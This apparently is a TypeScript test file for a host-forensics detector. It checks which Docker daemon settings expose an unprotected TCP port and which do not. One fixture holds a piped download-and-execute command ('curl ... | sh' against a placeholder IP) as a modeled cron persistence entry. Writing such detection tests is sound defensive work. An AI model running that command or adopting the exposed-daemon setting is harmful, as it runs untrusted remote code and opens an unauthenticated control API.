import { describe, expect, test } from 'bun:test';
import { hostFact, judgeContext } from '../detect/facts.fixture.ts';
import { judge } from '../detect/judge.ts';
import { entryFact, fileFact } from '../detect/persistence/entry.fixture.ts';
import { FactSet } from '../model/fact.ts';
import type { PersistenceFact } from '../model/facts/persistence.ts';
import { text } from './incident.fixture.ts';
import { sceneOf } from './scene-of.ts';
import { settledDoors } from './settled-doors.ts';

const daemonJson = (value: string, marks: PersistenceFact['marks']): PersistenceFact =>
  entryFact(`hosts=${value}`, {
    mechanism: 'docker-daemon',
    language: 'setting',
    marks,
    at: '/etc/docker/daemon.json',
  });
const unit = (command: string): PersistenceFact =>
  entryFact(command, { mechanism: 'systemd-service', at: '/lib/systemd/system/docker.service' });
const ports = (...facts: readonly PersistenceFact[]): readonly string[] =>
  settledDoors(new FactSet(facts)).map(({ service, port }) => `${service} ${port}`);

describe('a door that settings open', () => {
  test.each([
    ['daemon.json', daemonJson('tcp://0.0.0.0:2375', ['opens-access']), ['docker 2375']],
    ['the unit', unit('/usr/bin/dockerd -H tcp://0.0.0.0:4243 -H fd://'), ['docker 4243']],
    ['an IPv6 one', unit('/usr/bin/dockerd --host=tcp://[::]:2375'), ['docker 2375']],
  ])('%s', (_, fact, doors) => {
    expect(ports(fact, fact)).toEqual(doors);
  });

  test.each([
    ['of this host alone', unit('/usr/bin/dockerd -H tcp://127.0.0.1:2375')],
    ['with certificates', unit('/usr/bin/dockerd --tlsverify -H tcp://0.0.0.0:2376')],
    ['with certificates, in daemon.json', daemonJson('tcp://0.0.0.0:2376', ['weakens-guard'])],
    [
      'a socket of the file system',
      unit('/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock'),
    ],
    ['a client', unit('/usr/bin/docker -H tcp://192.0.2.1:2375 run x')],
    ['a word in another command', unit('echo not-dockerd -H tcp://0.0.0.0:2375')],
    ['a flood', unit(`/usr/bin/dockerd ${'-H '.repeat(50_000)}`)],
  ])('none: %s', (_, fact) => {
    expect(ports(fact)).toEqual([]);
  });

  test('and that is no trace of an intruder, however suspicious it is', () => {
    const at = '/etc/docker/daemon.json';
    const setting = daemonJson('tcp://0.0.0.0:2375', ['opens-access']);
    const job = entryFact('curl -s http://192.0.2.1/a.sh | sh');
    const facts = new FactSet([hostFact(), setting, job, fileFact(at), fileFact('/etc/cron.d/job')]);
    const scene = sceneOf(facts, judge(facts, judgeContext(), []));
    expect(scene.entries.map(({ mechanism }) => mechanism)).toEqual(['cron-drop-in']);
    expect(scene.doors).toEqual([
      { service: 'docker', port: 2375, address: text('tcp://0.0.0.0:2375'), protected: false },
    ]);
  });
});
